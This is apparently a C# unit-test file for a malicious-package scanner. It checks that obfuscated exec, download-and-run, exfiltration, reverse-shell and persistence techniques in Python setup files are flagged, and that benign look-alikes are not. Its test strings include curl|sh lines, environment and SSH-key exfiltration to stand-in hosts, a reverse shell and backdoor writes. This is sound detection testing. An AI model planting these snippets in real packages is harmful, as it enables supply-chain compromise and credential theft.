namespace Bonded.Scanning.Tests.Checks;

/// <summary>
/// The checks catch families of techniques, not samples: each theory varies the style of one family (how the string is
/// built, how the process starts, how the data leaves, where the write lands) and a benign look-alike stays quiet.
/// </summary>
public sealed class TechniqueFamilyTests
{
    private static string Findings(ScanReport report) => string.Join("\n", report.Findings);

    [Theory]
    [InlineData("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n")]
    [InlineData("import builtins\ngetattr(builtins, 'ex' + 'ec')(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n")]
    [InlineData("import builtins\nrun = vars(builtins)['ev' + 'al']\nrun(bytes.fromhex('7072696e74283129').decode())\n")]
    [InlineData("exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]))\n")]
    [InlineData("_e = exec\n_e(bytes(b ^ 0x21 for b in b'QSHOU\\t\\x10\\x08'))\n")]
    [InlineData("exec(''.join(chr(ord(c) - 1) for c in 'qsjou)2*'))\n")]
    [InlineData("eval(compile(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])), '<s>', 'exec'))\n")]
    [InlineData("import pickle\n_D = b'\\x80\\x04\\x95\\x1d\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x05posix\\x94\\x8c\\x06system\\x94\\x93\\x94'\npickle.loads(_D)\n")]
    [InlineData("import pickle, base64\npickle.loads(base64.b64decode('gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n")]
    [InlineData("import os\nwith open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb') as f:\n    data = f.read()\nexec(data[data.rfind(b'IEND') + 8:])\n")]
    public async Task Obfuscated_or_hidden_code_run_at_install_is_a_threat(string setup)
    {
        var report = await Packages.ScanSdistAsync(("setup.py", setup));
        Assert.True(report.Has("obfuscated-exec"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Theory]
    [InlineData("import os\nif os.fork() == 0:\n    os.execlp('sh', 'sh', '-c', 'wget -qO /tmp/.x http://x.invalid/x && chmod +x /tmp/.x && /tmp/.x')\n")]
    [InlineData("import subprocess\nsubprocess.call(['bitsadmin', '/transfer', 'j', 'http://x.invalid/a.exe', 'C:\\\\a.exe'])\n")]
    [InlineData("import subprocess\nsubprocess.Popen(['powershell', '-c', 'iwr http://x.invalid/u.exe -OutFile u.exe; Start-Process u.exe'])\n")]
    [InlineData("import os\nos.system(''.join(reversed('hs | x/dilavni.x//:ptth s- lruc')))\n")]
    [InlineData("import os\nos.system(' '.join(['curl', '-s', 'http://x.invalid/i', '|', 'sh']))\n")]
    [InlineData("import os\nurl = 'http://x.invalid/i'\nos.system('curl -s ' + url + ' | bash')\n")]
    [InlineData("import subprocess\ncode = subprocess.check_output(['curl', '-s', 'http://x.invalid/p.py'])\nexec(code)\n")]
    [InlineData("import urllib.request, zipimport\nurllib.request.urlretrieve('https://x.invalid/s.zip', '/tmp/s.zip')\nzipimport.zipimporter('/tmp/s.zip').load_module('s')\n")]
    public async Task Download_and_run_in_any_form_is_a_threat(string setup)
    {
        var report = await Packages.ScanSdistAsync(("setup.py", setup));
        Assert.True(report.Has("download-execute"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Theory]
    [InlineData("import http.client, json, os\nc = http.client.HTTPSConnection('discord' + '.com')\nc.request('POST', '/api/' + 'webhooks/1/x', body=json.dumps(dict(os.environ)))\n")]
    [InlineData("import smtplib, os\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(os.environ))\nwith smtplib.SMTP('mail.x.invalid') as s:\n    s.send_message(m)\n")]
    [InlineData("import socket, os\ns = socket.create_connection(('192.0.2.1', 9))\ns.sendall(repr(dict(os.environ)).encode())\n")]
    [InlineData("import os\nos.system('curl -s -d \"$(env)\" http://x.invalid/e')\n")]
    [InlineData("import os\nos.popen('curl -s -T ~/.ssh/id_rsa http://x.invalid/k')\n")]
    [InlineData("import os, urllib.request\nurllib.request.urlopen(f'http://x.invalid/c?d={dict(os.environ)}')\n")]
    [InlineData("import getpass, requests\nwho = getpass.getuser()\nrequests.get(f'http://x.invalid/c?u={who}')\n")]
    [InlineData("import ftplib, io, os\nf = ftplib.FTP('ftp.x.invalid')\nf.storbinary('STOR e', io.BytesIO(str(os.environ).encode()))\n")]
    public async Task Secrets_sent_over_any_channel_are_exfiltration(string init)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
        Assert.True(report.Has("credential-exfiltration"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Theory]
    [InlineData("import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAA x@x.invalid')\n")]
    [InlineData("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').open('a').write('ssh-ed25519 AAAA x@x.invalid')\n")]
    [InlineData("import os, site\nopen(os.path.join(site.getusersitepackages(), 'usercustomize.py'), 'a').write('import os')\n")]
    [InlineData("from pathlib import Path\nh = Path('.git') / 'hooks' / 'pre-commit'\nh.write_text('#!/bin/sh\\n')\n")]
    [InlineData("import os\nu = os.path.join(os.path.expanduser('~'), '.config', 'systemd', 'user', 'x.service')\nopen(u, 'w').write('[Service]')\n")]
    [InlineData("from pathlib import Path\nrc = Path.home() / '.bashrc'\nwith rc.open('a') as f:\n    f.write('alias ls=x')\n")]
    [InlineData("open('/etc/cron.d/x', 'w').write('* * * * * root id')\n")]
    public async Task Writes_to_autostart_and_backdoor_places_are_persistence(string init)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
        Assert.True(report.Has("persistence"), Findings(report));
    }

    [Theory]
    [InlineData("import subprocess\nsp = subprocess\nsp.Popen(['sh', '-c', 'curl -s http://x.invalid/a | sh'])\n", "download-execute")]
    [InlineData("_m = __import__(''.join(['o', 's']))\n_m.system('wget -qO- http://x.invalid/a | sh')\n", "download-execute")]
    [InlineData("import ctypes\nctypes.CDLL('libc.so.6').system(b'curl -s http://x.invalid/a | sh')\n", "download-execute")]
    [InlineData("import subprocess, os, json\nsubprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'http://x.invalid/e'])\n", "credential-exfiltration")]
    [InlineData("import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n", "reverse-shell")]
    [InlineData("import os, threading\nthreading.Thread(target=os.system, args=('curl -s http://x.invalid/a | sh',)).start()\n", "install-time-execution")]
    [InlineData("import atexit, subprocess, base64\natexit.register(subprocess.call, base64.b64decode('Y3VybCB4fHNo').decode(), shell=True)\n", "obfuscated-exec")]
    [InlineData("import base64, os, subprocess\nwith open('/tmp/.x', 'wb') as f:\n    f.write(base64.b64decode('f0VMRgIBAQAAAAAAAAAAAA=='))\nos.chmod('/tmp/.x', 0o755)\nsubprocess.Popen(['/tmp/.x'])\n", "obfuscated-exec")]
    [InlineData("import os\nhere = os.path.dirname(__file__)\ntext = open(os.path.join(here, 'README.txt')).read()\nexec(text.split('#--payload--')[1])\n", "obfuscated-exec")]
    [InlineData("import yaml\nyaml.load('!!python/object/apply:os.system [\"id\"]', Loader=yaml.Loader)\n", "obfuscated-exec")]
    [InlineData("from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://x.invalid/c | sh').minute.every(5)\ncron.write()\n", "persistence")]
    [InlineData("import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'zz_init.pth'), 'w') as f:\n    f.write('import os; os.system(\"id\")\\n')\n", "pth-autoexec")]
    public async Task Other_forms_of_the_same_techniques_are_caught(string setup, string check)
    {
        var report = await Packages.ScanSdistAsync(("setup.py", setup));
        Assert.True(report.Has(check), Findings(report));
        Assert.NotEqual(Verdict.Benign, report.Verdict);
    }

    [Theory]
    [InlineData("import os\n\nclass Beacon:\n    def __init__(self):\n        self.start()\n\n    def start(self):\n        os.system('curl -s http://x.invalid/b | sh')\n\n_b = Beacon()\n", "download-execute")]
    [InlineData("import atexit, os\n\n@atexit.register\ndef _bye():\n    os.system('curl -s http://x.invalid/b | sh')\n", "download-execute")]
    [InlineData("exec('%s%s' % ('import os; os.system(\"curl -s http://x.invalid/p', ' | sh\")'))\n", "download-execute")]
    public async Task Code_that_runs_at_import_through_classes_hooks_and_formatting_is_caught(string init, string check)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
        Assert.True(report.Has(check), Findings(report));
        Assert.NotEqual(Verdict.Benign, report.Verdict);
    }

    [Theory]
    [InlineData("import asyncio, threading\n\nasync def _s():\n    r, w = await asyncio.open_connection('192.0.2.5', 443)\n    while True:\n        line = await r.readline()\n        p = await asyncio.create_subprocess_shell(line.decode(), stdout=-1)\n        out, _ = await p.communicate()\n        w.write(out)\n\nthreading.Thread(target=lambda: asyncio.run(_s())).start()\n_t = _s\n", "reverse-shell")]
    [InlineData("import threading, time, urllib.request, json, subprocess\nAPI = 'https://chat.x.invalid/api'\n\ndef _get(path):\n    return json.loads(urllib.request.urlopen(API + path).read())\n\ndef _loop():\n    for m in _get('/messages'):\n        subprocess.run(m['text'], shell=True)\n\nthreading.Thread(target=_loop, daemon=True).start()\n", "download-execute")]
    [InlineData("import os, requests\n\ndef fetch(url, dst):\n    open(dst, 'wb').write(requests.get(url).content)\n\nfetch('https://x.invalid/r', '/tmp/.r')\nos.chmod('/tmp/.r', 0o755)\nos.system('/tmp/.r')\n", "download-execute")]
    [InlineData("import os\nh = 'x.invalid'\n_c = f\"{'wg'}{'et'} -qO- {f'http://{h}/i'} | {'s' + 'h'}\" if os.name != 'nt' else None\nos.system(_c)\n", "download-execute")]
    [InlineData("import os\nfrom PIL import Image\nP = os.path.join(os.path.dirname(__file__), 'logo.png')\n\ndef _bits(path=P):\n    return bytes(p[0] & 1 for p in Image.open(path).getdata())\n\ncode = _bits()\nexec(code)\n", "obfuscated-exec")]
    [InlineData("import requests\nfrom PIL import ImageGrab\n\ndef _shot():\n    img = ImageGrab.grab()\n    return img.tobytes()\n\nrequests.post('https://x.invalid/u', data=_shot())\n", "credential-exfiltration")]
    [InlineData("import threading, requests, os\n\ndef _ship(v):\n    requests.post('https://x.invalid/m', json={'v': v})\n\nthreading.Thread(target=_ship, args=(os.environ.get('AWS_SECRET_ACCESS_KEY'),)).start()\n", "credential-exfiltration")]
    public async Task Round_four_families_run_at_import_are_caught(string init, string check)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
        Assert.True(report.Has(check), Findings(report));
        Assert.NotEqual(Verdict.Benign, report.Verdict);
    }

    [Fact]
    public async Task A_powershell_encoded_command_inside_a_command_line_is_decoded()
    {
        var script = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("$c=New-Object Net.Sockets.TCPClient('192.0.2.9',443)"));
        var report = await Packages.ScanSdistAsync(("setup.py", $"import subprocess\nsubprocess.Popen('powershell -nop -w hidden -enc {script}', shell=True)\n"));
        Assert.True(report.Has("reverse-shell"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Theory]
    [InlineData("cos\nsystem\n(S'id'\ntR.", "os.system")]
    [InlineData("c__builtin__\neval\n(S'1'\ntR.", "__builtin__.eval")]
    public async Task A_shipped_pickle_that_calls_a_process_or_exec_is_obfuscated_exec(string pickle, string global)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "X = 1\n"), ("demo_pkg/model.pkl", pickle));
        Assert.Contains(report.Findings, f => f.CheckId == "obfuscated-exec" && f.Evidence.Contains(global, StringComparison.Ordinal));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public void Pickle_heads_are_read_for_dangerous_globals_only()
    {
        // Protocol 4: STACK_GLOBAL after two SHORT_BINUNICODE strings.
        byte[] stackGlobal = [0x80, 0x04, 0x95, 0x20, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0x0a, .. "subprocess"u8, 0x94, 0x8c, 0x05, .. "Popen"u8, 0x94, 0x93, 0x94, 0x2e];
        Assert.Equal("subprocess.Popen", Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal(stackGlobal));
        byte[] numpy = [0x80, 0x02, .. "cnumpy.core.multiarray\n_reconstruct\nq\x00"u8];
        Assert.Null(Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal(numpy));
        Assert.Null(Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal("# not a pickle: os\nsystem\n"u8));
        Assert.Null(Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal([0x80, 0x04]));
    }

    [Theory]
    [InlineData("setup.cfg", "[options.entry_points]\nconsole_scripts =\n    tool = demo_pkg.cli:main\n    git = demo_pkg.shim:git\n")]
    [InlineData("setup.py", "from setuptools import setup\nsetup(entry_points={'console_scripts': ['aws=demo_pkg.shim:aws', 'kubectl=demo_pkg.shim:k']})\n")]
    [InlineData("pyproject.toml", "[project]\nname = 'demo-pkg'\n[project.scripts]\ndocker = 'demo_pkg.shim:docker'\n")]
    public async Task Console_scripts_named_after_system_commands_are_command_jacking(string path, string text)
    {
        var report = await Packages.ScanSdistAsync((path, text));
        Assert.Contains(report.Findings, f => f.CheckId == "persistence" && f.File!.EndsWith(path, StringComparison.Ordinal) && f.Line > 1 && f.Evidence.Contains('=', StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("setup.cfg", "[options.entry_points]\nconsole_scripts =\n    demo = demo_pkg.cli:main\nvirtualenv.activate =\n    bash = demo_pkg.activation:Bash\n")]
    [InlineData("setup.py", "from setuptools import setup\nsetup(name='demo-pkg', entry_points={'demo.plugins': ['git = demo_pkg.git:Plugin'], 'console_scripts': ['demo = demo_pkg.cli:main']})\n")]
    public async Task Plugin_groups_and_own_commands_are_not_command_jacking(string path, string text)
    {
        var report = await Packages.ScanSdistAsync((path, text));
        Assert.DoesNotContain(report.Findings, f => f.CheckId == "persistence");
    }

    [Theory]
    [InlineData("demo_pkg/data.py", "import pickle, urllib.request\n\ndef _open(url):\n    return urllib.request.urlopen(url)\n\ndef load(url):\n    return pickle.load(_open(url))\n")]
    [InlineData("demo_pkg/__init__.py", "import os\nfrom PIL import Image\n\ndef _palette(path):\n    return sorted(set(Image.open(path).getdata()))\n\nPALETTE = _palette(os.path.join(os.path.dirname(__file__), 'p.png'))\nexec('X = 1')\n")]
    [InlineData("demo_pkg/client.py", "import asyncio\n\nasync def ask(host, text):\n    r, w = await asyncio.open_connection(host, 80)\n    w.write(text.encode())\n    return await r.readline()\n")]
    [InlineData("demo_pkg/__init__.py", "import threading, requests\n\ndef _ping(v):\n    requests.get('https://x.invalid/ping', params={'v': v})\n\nthreading.Thread(target=_ping, args=('1.0',)).start()\n")]
    public async Task Round_four_look_alikes_stay_benign(string path, string code)
    {
        var report = await Packages.ScanSdistAsync((path, code));
        Assert.True(report.Verdict == Verdict.Benign, Findings(report));
    }

    [Fact]
    public async Task Code_decoded_from_a_literal_is_analysed_where_it_runs()
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zLCBqc29uLCB1cmxsaWIucmVxdWVzdAp1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwOi8veC5pbnZhbGlkL2MiLCBkYXRhPWpzb24uZHVtcHMoZGljdChvcy5lbnZpcm9uKSkuZW5jb2RlKCkpCg=='))\n"));
        Assert.Contains(report.Findings, f => f.CheckId == "credential-exfiltration" && f.File!.Contains("!/decoded@2", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_pth_line_importing_a_package_module_inherits_that_modules_load_time_behaviour()
    {
        var wheel = Packages.Wheel(
            ("demo_boot.pth", "import demo_pkg._env\n"),
            ("demo_pkg/__init__.py", ""),
            ("demo_pkg/_env.py", "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n"));
        var report = await Packages.ScanAsync(wheel, "demo_pkg-1.0-py3-none-any.whl");
        Assert.Contains(report.Findings, f => f.CheckId == "pth-autoexec" && f.Severity == Severity.Critical);
    }

    [Theory]
    [InlineData("tensorfiow-gpu", "tensorflow")]
    [InlineData("pandas-profilling", "pandas-profiling")]
    [InlineData("beautifulsoup-5", "beautifulsoup4")]
    [InlineData("reqeusts-aio", "requests")]
    public void Typosquats_behind_suffixes_separators_and_the_long_tail_are_recognised(string name, string target)
    {
        Assert.Equal(target, Bonded.Scanning.Checks.TyposquattingCheck.Imitates(Names.Normalize(name), out _));
    }

    [Theory]
    [InlineData("requests-toolbelt")]
    [InlineData("tensorflow-gpu")]
    [InlineData("beautifulsoup4")]
    [InlineData("flask-login")]
    [InlineData("torch-cpu")]
    public void Real_variants_of_popular_names_are_not_typosquats(string name) =>
        Assert.Null(Bonded.Scanning.Checks.TyposquattingCheck.Imitates(Names.Normalize(name), out _));

    [Theory]
    [InlineData("demo_pkg/plugins.py", "import importlib\n\ndef load(name):\n    return getattr(importlib.import_module('demo_pkg.' + name), 'run')()\n")]
    [InlineData("demo_pkg/model.py", "import pickle\n\ndef load(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n")]
    [InlineData("setup.py", "v = {}\nexec(open('demo_pkg/version.py').read(), v)\nfrom setuptools import setup\nsetup(version=v['__version__'])\n")]
    [InlineData("demo_pkg/mail.py", "import smtplib, os\n\ndef send(msg):\n    with smtplib.SMTP(os.environ.get('SMTP_HOST', 'localhost')) as s:\n        s.send_message(msg)\n")]
    [InlineData("demo_pkg/__init__.py", "import os\nHOOK = os.path.join('.git', 'hooks')\n\ndef hooks_dir(root):\n    return os.path.join(root, HOOK)\n")]
    [InlineData("setup.py", "from setuptools import setup\nns = {}\nexec(open('demo_pkg/_version.py').read().split('\\n# end')[0], ns)\nsetup(version=ns['__version__'])\n")]
    [InlineData("demo_pkg/__init__.py", "import os, threading\n\ndef _warm():\n    pass\n\nthreading.Thread(target=_warm, daemon=True).start()\n")]
    [InlineData("demo_pkg/util.py", "def rev(s):\n    return ''.join(reversed(s))\n\nKEY = ''.join(chr(c) for c in [97, 98])\n")]
    public async Task Benign_look_alikes_stay_benign(string path, string code)
    {
        var report = await Packages.ScanSdistAsync((path, code));
        Assert.True(report.Verdict == Verdict.Benign, Findings(report));
    }
}
